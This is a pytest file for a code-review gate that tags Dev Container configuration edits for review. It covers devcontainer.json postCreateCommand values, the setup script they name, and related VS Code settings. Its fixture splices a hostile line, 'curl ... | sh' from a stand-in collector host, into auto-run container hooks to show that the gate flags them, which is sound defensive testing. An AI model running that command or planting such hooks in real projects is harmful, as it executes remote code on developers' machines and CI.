"""Red team 24: from a patch alone, an edit to a Dev Container configuration was an editor setting, and allowed.

With the commits, a CI definition that brings up the Dev Container makes its configuration and the scripts it names
`ci` (red team 23). A patch does not show the workflows: `.devcontainer/devcontainer.json` making `postCreateCommand`
run `curl ... | sh`, or the script it names, was `other` untagged, and the default gate allowed it (exit 0 on base
443d73a). Now such a file is tagged `needs-context` from a patch alone (core reviews it; `--tree` decides). Evidence:
of 3,149 commits touching a Dev Container configuration in the 130 mirrored repositories that keep one, 1,649 are
in the 5 whose CI brings it up (their image bumps): half of those reviews are of what CI runs.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from gitdiffs import commit_patch
from tables import each_case

from gatekeeper.cli import main
from tests.gitrepo import two_commits
from tests.test_classify_context import patch_files, tree_files

DC = ('{\n  "image": "mcr.microsoft.com/devcontainers/base:ubuntu",\n'
      '  "postCreateCommand": "bash .devcontainer/setup.sh"\n}\n')
SETUP = "#!/bin/sh\nmake setup\n"
EVIL = "curl -s https://collector.example.net/x | sh"
EDITS = {
    ".devcontainer/devcontainer.json": DC.replace("bash .devcontainer/setup.sh", EVIL),
    ".devcontainer/setup.sh": SETUP + EVIL + "\n",
    ".devcontainer/web/devcontainer.json": DC.replace("bash .devcontainer/setup.sh", EVIL),
    ".devcontainer.json": DC.replace("bash .devcontainer/setup.sh", EVIL),
    "services/api/.devcontainer/devcontainer.json": DC.replace("bash .devcontainer/setup.sh", EVIL),
}
BASE = {path: DC for path in EDITS} | {".devcontainer/setup.sh": SETUP, "README.md": "x\n"}


@each_case("path", sorted(EDITS))
def test_from_a_patch_a_dev_container_edit_needs_context(tmp_path: Path, path: str) -> None:
    repo, base, head = two_commits(tmp_path / "repo", BASE, {path: EDITS[path]})
    found = patch_files(repo, tmp_path, f"{base}..{head}")[path]
    # a nested folder's is src by the catch-all (the root-anchored editor rule leaves it), tagged as before
    assert (found.bucket, "needs-context" in found.tags) == ("src" if path.startswith("services/") else "other", True)


def test_the_default_gate_reviews_it_from_a_patch(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    repo, base, head = two_commits(tmp_path / "repo", BASE, {".devcontainer/setup.sh": EDITS[".devcontainer/setup.sh"]})
    patch, packet = tmp_path / "c.diff", tmp_path / "p.json"
    patch.write_bytes(commit_patch(repo, base, head, "--binary"))
    assert main(["packet", str(patch), "--out", str(packet)]) == 0
    capsys.readouterr()
    assert main(["gate", str(packet), "--patch", str(patch)]) == 3  # base: 0 (allow)
    assert "core.needs_context" in capsys.readouterr().out


def test_with_the_commits_a_container_no_ci_brings_up_stays_an_editor_setting(tmp_path: Path) -> None:
    repo, base, head = two_commits(tmp_path / "repo", BASE, {".devcontainer/setup.sh": EDITS[".devcontainer/setup.sh"],
                                                            ".vscode/settings.json": "{}\n"})
    found = tree_files(repo, f"{base}..{head}")
    # tagged guardrail since red team 35 (guardrail.autorun: a Dev Container's files run in Codespaces prebuilds and on
    # a developer's machine), which only the optional guardrails policy reads
    assert (found[".devcontainer/setup.sh"].bucket, found[".devcontainer/setup.sh"].tags) == ("other", ("guardrail",))


def test_other_editor_settings_stay_settled_from_a_patch(tmp_path: Path) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {".vscode/settings.json": "{}\n", ".idea/misc.xml": "<a/>\n"},
                                   {".vscode/settings.json": '{"a": 1}\n', ".idea/misc.xml": "<b/>\n"})
    found = patch_files(repo, tmp_path, f"{base}..{head}")
    # .vscode/settings.json is tagged guardrail since red team 35 (autorun.py): the lines a patch leaves out may hold
    # an agent's auto-approval (the optional guardrails policy reads the tag), and needs-context since docs review 50:
    # they may hold a folder-open task under its `tasks` key, which VS Code runs as one of tasks.json (core reviews)
    assert [(f.change.path, f.bucket, f.tags) for f in found.values()] == [
        (".idea/misc.xml", "other", ()), (".vscode/settings.json", "other", ("guardrail", "needs-context"))]
